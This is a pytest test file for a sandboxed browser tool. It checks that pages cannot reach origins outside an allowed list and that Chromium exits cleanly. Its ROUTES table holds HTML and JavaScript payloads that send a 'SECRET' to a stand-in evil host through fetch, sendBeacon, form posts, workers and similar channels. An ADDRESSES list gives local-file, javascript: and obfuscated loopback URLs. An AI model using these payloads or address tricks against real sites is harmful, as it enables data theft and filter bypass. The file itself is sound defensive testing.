"""No byte goes to an origin that the plan does not name, and Chromium does not outlive us."""

from __future__ import annotations

import asyncio
import os
import subprocess
import sys
import textwrap
from collections.abc import AsyncGenerator, Generator
from contextlib import suppress
from pathlib import Path

import pytest
import pytest_asyncio

from podium.state.errors import NotPermitted, Retryable, SetupError
from podium.tools.browser import BrowserSettings, PodiumBrowser
from podium.tools.page import Page, StepPolicy
from tests.sites import Reply, Site, serving

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[PodiumBrowser]:
    folder = tmp_path_factory.mktemp("browser")
    opened = PodiumBrowser(BrowserSettings(no_sandbox=os.geteuid() == 0, folder=folder))
    yield opened
    await opened.close()


@pytest.fixture
def good() -> Generator[Site]:
    with serving({}) as site:
        yield site


@pytest.fixture
def evil() -> Generator[Site]:
    with serving({"/": "<h1>Evil</h1>", "/x.js": "1"}, host="127.0.0.2") as site:
        yield site


def profiles(folder: Path) -> list[Path]:
    return list(folder.glob("podium-chromium-*"))


async def read_until_it_fails(page: Page) -> None:
    for _ in range(100):
        await page.snapshot()
        await asyncio.sleep(0.02)


ROUTES = {
    "redirect": "<script>location='/away'</script>",
    "location": "<script>location='EVIL/'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL/'>",
    "window": "<script>window.open('EVIL/')</script>",
    "frame": "<iframe src=EVIL/></iframe>",
    "object": "<object data=EVIL/></object>",
    "post": "<form method=post action=EVIL/><input name=s value=SECRET></form><script>document.forms[0].submit()</script>",
    "image": "<img src=EVIL/x.png>",
    "style": "<link rel=stylesheet href=EVIL/x.css>",
    "script": "<script src=EVIL/x.js></script>",
    "fetch": "<script>fetch('EVIL/',{mode:'no-cors',method:'POST',body:'SECRET'})</script>",
    "beacon": "<script>navigator.sendBeacon('EVIL/','SECRET')</script>",
    "socket": "<script>new WebSocket('EVIL/'.replace('http','ws'))</script>",
    "events": "<script>new EventSource('EVIL/')</script>",
    "prefetch": "<link rel=prefetch href=EVIL/><link rel=preconnect href=EVIL><link rel=prerender href=EVIL/>",
    "worker": "<script>new Worker(window.URL.createObjectURL(new Blob([\"fetch('EVIL/',{mode:'no-cors'})\"])))</script>",
    "user name": "<script>location='GOOD@EVILHOST/'</script>",
    "other port": "<img src=//127.0.0.1:EVILPORT/>",
    "other name": "<img src=//localhost:GOODPORT/other-name.png>",
}  # fmt: skip


@pytest.mark.parametrize("route", ROUTES)
async def test_nothing_reaches_an_origin_outside_the_plan(
    browser: PodiumBrowser, good: Site, evil: Site, route: str
) -> None:
    html = (
        ROUTES[route]
        .replace("EVILHOST", evil.url.removeprefix("http://"))
        .replace("EVILPORT", str(evil.port))
        .replace("GOODPORT", str(good.port))
        .replace("EVIL", evil.url)
        .replace("GOOD", good.url)
    )
    good.pages |= {
        "/": f"<h1>Good</h1>{html}",
        "/away": Reply(status=302, headers={"Location": evil.url}),
    }
    page = await browser.session("run_1", origins=(good.url,))
    try:
        await page.begin(StepPolicy(effect="write"))
        with suppress(NotPermitted, Retryable):
            await page.goto(good.url)
        await page.settle()
        await asyncio.sleep(0.3)
        assert evil.requests == []
        assert good.arrived(path="/other-name.png") == []
        assert page.traffic().blocked or route in {"prefetch", "user name"}
    finally:
        await browser.release("run_1")


ADDRESSES = [
    "file:///etc/hostname", "file://localhost/etc/hostname", "data:text/html,<h1>x", "javascript:alert(1)", "chrome://version",
    "view-source:http://127.0.0.1/", "http://good.test@127.0.0.2/", "http://127.0.0.1.evil.test/", "http://2130706433/",
    "http://0x7f000001/", "http://127.1/", "http://127.0.0.1./", "http://[::1]/", "http://[::ffff:127.0.0.1]/",
    "http:\\\\evil.test\\", "https://127.0.0.1/", "ftp://127.0.0.1/", "http://\uff11\uff12\uff17.0.0.1:1/",
]  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES)
async def test_addresses_outside_the_plan_are_not_opened(
    browser: PodiumBrowser, good: Site, address: str
) -> None:
    page = await browser.session("run_1", origins=(good.url,))
    with pytest.raises(NotPermitted):
        await page.goto(address)


async def test_a_site_s_own_socket_stream_and_large_bodies_pass(
    browser: PodiumBrowser, good: Site
) -> None:
    good.pages["/"] = (
        """<p id=o></p><script>fetch('/big',{method:'POST',body:'y'.repeat(3e6)}).then(r=>r.text()).then(t=>o.textContent=t.length)</script>"""
    )
    good.pages["/big"] = lambda request: "z" * len(request.body)
    page = await browser.session("run_1", origins=(good.url,))
    await page.goto(good.url)
    assert (await page.snapshot()).text == "3000000"


async def test_a_widened_session_reaches_the_new_origin(
    browser: PodiumBrowser, good: Site, evil: Site
) -> None:
    good.pages["/"] = "<h1>Good</h1>"
    await browser.release("run_1")
    page = await browser.session("run_1", origins=(good.url,))
    with pytest.raises(NotPermitted):
        await page.goto(evil.url)
    await browser.widen("run_1", evil.url)
    await page.goto(evil.url)
    assert (await page.snapshot()).headings == ("Evil",)


async def test_a_crashed_page_is_a_browser_that_is_gone_and_a_new_session_works(
    tmp_path: Path, good: Site
) -> None:
    good.pages["/"] = "<h1>Good</h1>"
    browser = PodiumBrowser(BrowserSettings(no_sandbox=os.geteuid() == 0, folder=tmp_path))
    try:
        page = await browser.session("run_1", origins=(good.url,))
        await page.goto(good.url)
        profile = profiles(tmp_path)[0]
        socket = (profile / "SingletonSocket").readlink()
        os.kill(int((profile / "chromium.pid").read_text()), 9)
        with pytest.raises(Retryable) as failure:
            await read_until_it_fails(page)
        assert failure.value.code == "browser_gone"
        await asyncio.sleep(0.2)
        assert not browser.has("run_1")
        again = await browser.session("run_1", origins=(good.url,))
        await again.goto(good.url)
        assert (await again.snapshot()).headings == ("Good",)
    finally:
        await browser.close()
    assert profiles(tmp_path) == []
    assert not socket.parent.exists(), "Chromium's folder in the temporary folder is left behind"


async def test_chromium_dies_with_its_parent_and_a_held_write_is_not_sent(
    tmp_path: Path, good: Site
) -> None:
    good.pages["/"] = "<form method=post action=/w><button>Go</button></form>"
    good.pages["/w"] = "written"
    script = f"""
        import asyncio, os
        from pathlib import Path
        from podium.tools.browser import BrowserSettings, PodiumBrowser
        from podium.tools.page import Page, StepPolicy
        async def never(request):
            print("paused", flush=True)
            os.kill(os.getpid(), 9)
        async def main():
            browser = PodiumBrowser(BrowserSettings(no_sandbox={os.geteuid() == 0}, folder=Path({str(tmp_path)!r})))
            page = await browser.session("run_1", origins=({good.url!r},))
            await page.goto({good.url!r})
            await page.begin(StepPolicy(effect="write", before_send=never))
            await page.click(next(node.ref for node in (await page.snapshot()).nodes if node.role == "button"))
        asyncio.run(main())
    """
    done = await asyncio.to_thread(
        subprocess.run,
        [sys.executable, "-c", textwrap.dedent(script)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.stdout == "paused\n", done.stderr
    for _ in range(100):
        if profiles(tmp_path):
            await asyncio.sleep(0.1)
    assert profiles(tmp_path) == []
    assert good.arrived("POST") == []


async def test_without_chromium_the_error_says_what_to_install(tmp_path: Path) -> None:
    browser = PodiumBrowser(
        BrowserSettings(chromium=tmp_path / "nothing", folder=tmp_path, no_sandbox=True)
    )
    with pytest.raises(SetupError) as failure:
        await browser.session("run_1", origins=("http://127.0.0.1:1",))
    assert "PODIUM_CHROMIUM" in failure.value.hint
